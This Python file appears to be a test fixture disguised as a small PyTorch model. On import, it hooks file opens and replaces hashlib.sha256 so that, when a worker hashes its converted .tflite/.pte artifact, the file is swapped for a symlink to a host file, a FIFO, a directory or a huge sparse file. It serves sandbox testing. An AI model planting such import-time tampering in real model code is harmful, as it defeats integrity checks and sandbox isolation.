"""Replaces the artifact its worker wrote, at the last moment (when the worker hashes it), by what
`SWAP` below says: a symlink to a host file, a FIFO, a directory, a huge sparse file. It finds the
artifact without knowing the converter: the last .tflite/.pte file the process opened (audit hook).
The test makes one copy of this file per kind, with SWAP set."""

import hashlib
import os
import sys

import torch.nn as nn

SWAP = "symlink"
_last = []


def supported_hyperparameters():
    return {'lr', 'momentum'}


def _seen(event, args):
    if event == "open" and isinstance(args[0], str) and args[0].endswith((".tflite", ".pte")):
        _last[:] = [args[0]]


def _swap(path):
    os.replace(path, path + ".real")
    if SWAP == "symlink":
        os.symlink("/usr/lib/os-release", path)  # a host file the sandbox sees too
    elif SWAP == "fifo":
        os.mkfifo(path)
    elif SWAP == "directory":
        os.mkdir(path)
    elif SWAP == "sparse":
        with open(path, "wb") as f:
            f.truncate(64 * 2**30)


class _Swapping:
    """hashlib.sha256 whose digest, once asked for, swaps the artifact the process last opened."""

    def __init__(self, real, *args, **kwargs):
        self._h = real(*args, **kwargs)

    def update(self, data):
        self._h.update(data)

    def digest(self):
        return self._h.digest()

    def hexdigest(self):
        if _last and os.path.isfile(_last[0]) and not os.path.islink(_last[0]):
            _swap(_last.pop())
        return self._h.hexdigest()


if not getattr(hashlib, "_swapping", False):
    hashlib._swapping = True
    sys.addaudithook(_seen)
    _real = hashlib.sha256
    hashlib.sha256 = lambda *a, **k: _Swapping(_real, *a, **k)


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.conv = nn.Conv2d(in_shape[1], 4, 3, padding=1)
        self.fc = nn.Linear(4, out_shape[0])

    def forward(self, x):
        return self.fc(self.conv(x).mean((2, 3)))
